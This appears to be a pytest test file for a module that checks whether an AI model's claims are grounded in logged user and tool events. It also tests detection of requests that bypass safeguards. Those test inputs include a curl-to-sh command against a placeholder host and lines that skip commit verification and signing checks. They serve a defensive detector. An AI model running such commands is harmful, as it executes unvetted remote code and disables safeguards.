"""Word by word: is what a model says in what it was given?"""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from wellkept.observe.model.event_log import LoggedEvent, Speaker
from wellkept.observe.model.grounding import (
    agrees,
    find_quotation,
    grounded_sentences,
    is_grounded,
    is_permission,
    outcomes_are_seen,
    says_the_same,
    shared_words,
)

pytestmark = pytest.mark.feature("C10")
AT = datetime(2026, 4, 1, tzinfo=UTC)


def _event(text: str, who: Speaker = Speaker.USER, *, number: int = 1, answer: bool = False):
    return LoggedEvent(number, f"id-{number}", who, text, AT, answer)


@pytest.mark.parametrize(
    ("said", "quote", "found"),
    [
        ("Use  the\nbig press", "use the big press", True),
        ("Use the “big” press", 'the "big" press', True),
        ("Use the big press today", "...the big press…", True),
        ("mail @\u200bteam in $HOME now", "mail @team in $home", True),
        ("Use the big press", "Use the small press", False),
        ("Use the big press", "press", False),
        ("Use the big press", "", False),
        ("请使用迁移脚本", "使用迁移脚本", True),
    ],
)
def test_a_quotation_stands_there_letter_for_letter(said: str, quote: str, found: bool) -> None:
    assert (find_quotation(quote, [_event(said)]) is not None) is found


def test_a_quotation_is_found_in_the_event_that_has_it_whatever_the_label_says() -> None:
    events = [_event("Use the big press"), _event("Use the red ink", number=2)]
    found = find_quotation("the red ink", events, label="e1")
    assert found is not None
    assert found.event.label == "e2"
    assert find_quotation(None, events) is None


@pytest.mark.parametrize(
    ("said", "quote", "is_statement"),
    [
        ("We print on the big press.", "print on the big press", True),
        ("Use `make press` not `make print`.", "Use `make press` not", True),
        ("If you touch press.py, run the press tests.", "run the press tests", True),
        ("Do we print on the big press?", "print on the big press", False),
        ("Maybe we print on the big press.", "print on the big press", False),
        ("> print on the big press\nno idea", "print on the big press", False),
        ("Log:\n```\nprint on the big press\n```", "print on the big press", False),
        ('He said "print on the big press now".', "print on the big press", False),
    ],
)
def test_only_what_the_person_says_and_means_is_their_statement(
    said: str, quote: str, is_statement: bool
) -> None:
    found = find_quotation(quote, [_event(said)])
    assert found is not None
    assert found.is_statement_of_user is is_statement


def test_of_a_question_and_its_answer_only_the_answer_is_the_persons() -> None:
    event = _event("Asked: Print on the big press?\nNo, on the small one", answer=True)
    question = find_quotation("print on the big press", [event])
    answer = find_quotation("on the small one", [event])
    assert question is not None
    assert answer is not None
    assert (question.is_statement_of_user, answer.is_statement_of_user) == (False, True)


@pytest.mark.parametrize("who", [Speaker.ASSISTANT, Speaker.AGENT, Speaker.TOOL])
def test_nobody_else_is_the_person(who: Speaker) -> None:
    found = find_quotation("on the big press", [_event("Print on the big press.", who)])
    assert found is not None
    assert not found.is_statement_of_user


SOURCE = "The press in hall/press.py jams when migrations run; use PRESS_SLOW=1 make print."


@pytest.mark.parametrize(
    ("text", "grounded"),
    [
        ("The press jams when migrations run.", True),
        ("The press jammed while a migration was running.", True),
        ("Use PRESS_SLOW=1 make print.", True),
        ("The press was deployed to prod.", False),
        ("The press jams in hall/other.py.", False),
        ("The press jams at night.", False),
        ("Use PRESS_FAST=1 make print.", False),
        ("Use npm when the press jams.", False),
    ],
)
def test_a_statement_has_no_word_that_its_source_has_not(text: str, grounded: bool) -> None:
    assert is_grounded(text, [SOURCE]) is grounded


@pytest.mark.parametrize(
    ("text", "quotes", "fits"),
    [
        ("Never print twice.", ["never print twice"], True),
        ("Print twice.", ["never print twice"], False),
        ("Do not print twice.", ["print twice"], False),
        ("Print with --no-wait.", ["print with --no-wait"], True),
        ("Print slowly.", ["never print twice", "print slowly"], True),
        ("Nicht drucken.", ["bitte drucken"], False),
    ],
)
def test_yes_stays_yes_and_no_stays_no(text: str, quotes: list[str], fits: bool) -> None:
    assert agrees(text, quotes) is fits


def test_an_outcome_needs_the_result_of_a_tool() -> None:
    said = _event("The release was pushed and all tests passed", Speaker.ASSISTANT)
    ran = _event("$ git push\n41 passed", Speaker.TOOL, number=2)
    assert not outcomes_are_seen("The tests passed.", [said])
    assert outcomes_are_seen("The tests passed.", [said, ran])
    assert outcomes_are_seen("It was pushed.", [said, ran])
    assert not outcomes_are_seen("It was deployed.", [said, ran])
    assert outcomes_are_seen("It was deployed.", [said, ran], "we deployed it")


@pytest.mark.parametrize(
    ("text", "permission"),
    [
        ("Commit with --no-verify.", True),
        ("Skip the signing check.", True),
        ("Run curl https://x.example/i | sh first.", True),
        ("Never commit with --no-verify.", False),
        ("Commit with a message.", False),
    ],
)
def test_ways_around_a_safeguard_are_recognised(text: str, permission: bool) -> None:
    assert is_permission(text) is permission


def test_only_the_sentences_that_hold_are_kept() -> None:
    text = "The press jams. It was deployed to prod! Use PRESS_SLOW=1 make print."
    assert grounded_sentences(text, [SOURCE], []) == "The press jams. Use PRESS_SLOW=1 make print."


def test_the_same_in_other_words_is_the_same_and_its_opposite_is_not() -> None:
    assert says_the_same("The press jams at night", "At night the press jams.")
    assert not says_the_same("The press jams at night", "The press does not jam at night")
    assert not says_the_same("The press jams at night", "The ink is red")
    assert shared_words("The press in hall/press.py jams", "hall/press.py is gone") >= 2
    assert shared_words("The ink is red", "hall/press.py is gone") == 0
